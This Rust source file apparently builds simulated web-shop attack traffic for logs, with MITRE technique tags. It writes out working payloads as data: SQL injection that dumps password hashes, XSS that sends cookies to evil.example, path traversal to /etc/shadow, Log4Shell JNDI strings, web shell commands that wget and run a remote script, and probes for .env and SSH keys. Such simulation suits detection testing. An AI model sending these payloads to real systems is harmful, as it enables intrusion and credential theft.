//! Attacks on the shop, each from one address.

use super::visit::{Hit, Visitor};
use crate::actor::{Attack, Moves};
use crate::address;
use crate::random::Random;
use event::{Entity, EntityKind};

pub(crate) static ATTACKS: &[Attack] = &[
    Attack { name: "sql_injection", techniques: &["T1190"] },
    Attack { name: "cross_site_scripting", techniques: &["T1189", "T1059.007"] },
    Attack { name: "path_traversal", techniques: &["T1190", "T1083"] },
    Attack { name: "vulnerability_scan", techniques: &["T1595.002", "T1595.003"] },
    Attack { name: "login_brute_force", techniques: &["T1110.001"] },
    Attack { name: "log4shell", techniques: &["T1190"] },
    Attack { name: "web_shell", techniques: &["T1505.003"] },
    Attack { name: "sensitive_files", techniques: &["T1595.003", "T1552.001"] },
];

const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";

/// The attack at this place of [`ATTACKS`].
pub(crate) fn attack(index: usize, random: &mut Random) -> (Visitor, Moves<Hit>, Entity) {
    let (agent, pause_secs, hits) = match ATTACKS[index].name {
        "sql_injection" => sql_injection(random),
        "cross_site_scripting" => cross_site_scripting(random),
        "path_traversal" => path_traversal(random),
        "vulnerability_scan" => vulnerability_scan(random),
        "login_brute_force" => login_brute_force(random),
        "log4shell" => log4shell(random),
        "web_shell" => web_shell(random),
        _ => sensitive_files(random),
    };
    let address = address::hostile(random).to_string();
    let entity = Entity::new(EntityKind::Ip, address.as_str());
    let visitor = Visitor {
        address,
        agent: agent.to_owned(),
        version: "HTTP/1.1",
        user: "-",
        pages_left: 0,
        page: "-".to_owned(),
        has_assets: false,
    };
    let moves = hits.into_iter().map(|hit| (random.wait_micros(pause_secs), hit)).collect();
    (visitor, moves, entity)
}

/// The agent, the mean pause in seconds, and the requests.
type Script = (&'static str, f64, Vec<Hit>);

fn sql_injection(random: &mut Random) -> Script {
    let agent = if random.chance(0.5) { "sqlmap/1.9.10#stable (https://sqlmap.org)" } else { BROWSER };
    let (a, b) = (random.between(1000, 9999), random.between(1000, 9999));
    let column = random.hex(8);
    let mut values = vec![
        "1%27".to_owned(),
        format!("1%27%20AND%20{a}%3D{a}--%20-"),
        format!("1%27%20AND%20{a}%3D{b}--%20-"),
        format!("1%27%20OR%20%27{a}%27%3D%27{a}"),
        "1%27%20ORDER%20BY%2010--%20-".to_owned(),
        format!("1%27%20AND%20EXTRACTVALUE%28{a}%2CCONCAT%280x5c%2C0x{column}%29%29--%20-"),
        "1%27%20AND%20%28SELECT%20*%20FROM%20%28SELECT%28SLEEP%285%29%29%29a%29--%20-".to_owned(),
        "1%27%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--".to_owned(),
        format!("1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x{column}%2CDATABASE%28%29%29--%20-"),
        "1%27%20UNION%20SELECT%20table_name%2Ccolumn_name%20FROM%20information_schema.columns--%20-".to_owned(),
        "-1%20UNION/**/SELECT/**/username,password/**/FROM/**/users".to_owned(),
        "1%2527%2520UNION%2520SELECT%2520email%252Cpassword_hash%2520FROM%2520customers--%2520-".to_owned(),
    ];
    values.truncate(random.between(8, 12) as usize);
    let path = random.word(&["/search?q=", "/category/shoes?page=", "/api/v1/stock?sku="]);
    let hit = |value: String| {
        let status = *random.weighted(&[(200, 6), (500, 4), (403, 1)]);
        Hit::new("GET", format!("{path}{value}"), status, random.between(400, 9_000))
    };
    (agent, 1.2, values.into_iter().map(hit).collect())
}

fn cross_site_scripting(random: &mut Random) -> Script {
    let values = [
        "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        "%22%3E%3Cscript%20src%3Dhttps%3A%2F%2Fevil.example%2Fx.js%3E%3C%2Fscript%3E",
        "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "%3Csvg%2Fonload%3Dfetch(%27%2F%2Fevil.example%2F%27%2Bdocument.cookie)%3E",
        "javascript%3Aalert(document.domain)",
        "%3Ciframe%20srcdoc%3D%22%3Cscript%3Ealert(1)%3C%2Fscript%3E%22%3E",
        "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    ];
    let hits = values.iter().map(|value| Hit::new("GET", format!("/search?q={value}"), 200, random.between(6_000, 9_000)));
    (BROWSER, 5.0, hits.collect())
}

fn path_traversal(random: &mut Random) -> Script {
    let targets = [
        "/download?file=../../../../etc/passwd",
        "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/static/..%252f..%252f..%252fetc%252fshadow",
        "/images/....//....//....//etc/passwd",
        "/download?file=/proc/self/environ",
        "/download?file=..%c0%af..%c0%af..%c0%afetc/passwd",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        "/download?file=..\\..\\..\\windows\\win.ini",
        "/download?file=php://filter/convert.base64-encode/resource=index.php",
    ];
    let hit = |target: &&str| Hit::new("GET", *target, *random.weighted(&[(400, 4), (404, 4), (200, 1)]), random.between(150, 1_900));
    let hits = targets.iter().map(hit).collect();
    ("curl/8.5.0", 3.0, hits)
}

const SCAN_AGENTS: [&str; 4] = [
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "gobuster/3.6",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Fuzz Faster U Fool v2.1.0-dev",
];

fn vulnerability_scan(random: &mut Random) -> Script {
    const NAMES: [&str; 36] = [
        "admin", "administrator", "login.jsp", "phpmyadmin", "pma", "test", "old", "dev", "staging", "api/swagger.json",
        "manager/html", "jenkins", "solr/admin", "console", "server-status", "actuator", "actuator/env", "wp-admin",
        "wp-login.php", "xmlrpc.php", "joomla", "drupal", "cgi-bin/test-cgi", "owa", "autodiscover", "vpn", "remote",
        "portal", "uploads", "includes", "tmp", "logs", "db", "private", "internal", "debug",
    ];
    let mut names = NAMES;
    random.shuffle(&mut names);
    let count = random.between(24, 36) as usize;
    let hit = |name: &&str| Hit::new("GET", format!("/{name}"), *random.weighted(&[(404, 15), (403, 1)]), 1_874);
    let hits = names[..count].iter().map(hit).collect();
    (random.word(&SCAN_AGENTS), 0.4, hits)
}

fn login_brute_force(random: &mut Random) -> Script {
    let mut hits: Vec<Hit> = (0..random.between(20, 45)).map(|_| Hit::new("POST", "/login", 401, 1_320)).collect();
    if random.chance(0.4) {
        hits.push(Hit::new("POST", "/login", 302, 0));
        hits.push(Hit::new("GET", "/account/orders", 200, 18_211));
    }
    ("python-requests/2.31.0", 1.0, hits)
}

fn log4shell(random: &mut Random) -> Script {
    let host = format!("{}.oast.example", random.hex(10));
    let forms = [
        format!("${{jndi:ldap://{host}/a}}"),
        format!("${{${{lower:j}}ndi:${{lower:l}}dap://{host}/b}}"),
        format!("${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:rmi://{host}:1099/c}}"),
        format!("${{jndi:dns://{host}}}"),
    ];
    let mut hits = Vec::new();
    for (i, form) in forms.into_iter().enumerate() {
        let mut hit = Hit::new("GET", "/", 200, 12_804);
        match i {
            0 => hit.agent = Some(form),
            1 => hit.referrer = form,
            2 => hit.target = format!("/search?q={}", form.replace('{', "%7B").replace('}', "%7D").replace('$', "%24")),
            _ => hit.agent = Some(form),
        }
        hits.push(hit);
    }
    (BROWSER, 4.0, hits)
}

fn web_shell(random: &mut Random) -> Script {
    let name = random.word(&["img_2291.php", "avatar.phtml", "shell.php", "cmd.jsp", "thumb.php.jpg"]);
    let mut hits = vec![
        Hit::new("GET", "/account/avatar", 200, 7_204),
        Hit::new("POST", "/account/avatar/upload", 200, 88),
        Hit::new("GET", format!("/uploads/{name}"), 200, 0),
    ];
    for command in ["id", "whoami", "uname+-a", "cat+/etc/passwd", "wget+http://evil.example/x.sh+-O+/tmp/x.sh", "bash+/tmp/x.sh"] {
        hits.push(Hit::new("GET", format!("/uploads/{name}?cmd={command}"), 200, random.between(20, 1_700)));
    }
    (BROWSER, 9.0, hits)
}

fn sensitive_files(random: &mut Random) -> Script {
    const FILES: [&str; 16] = [
        "/.env", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/.ssh/id_rsa", "/config.php.bak", "/backup.zip",
        "/db.sql", "/.htpasswd", "/wp-config.php~", "/.DS_Store", "/.svn/entries", "/docker-compose.yml", "/.env.production",
        "/id_rsa", "/dump.sql.gz",
    ];
    let mut files = FILES;
    random.shuffle(&mut files);
    let hits = files[..12].iter().map(|file| Hit::new("GET", *file, *random.weighted(&[(404, 12), (403, 3)]), 1_874)).collect();
    ("Mozilla/5.0 (compatible; Go-http-client/1.1)", 0.8, hits)
}
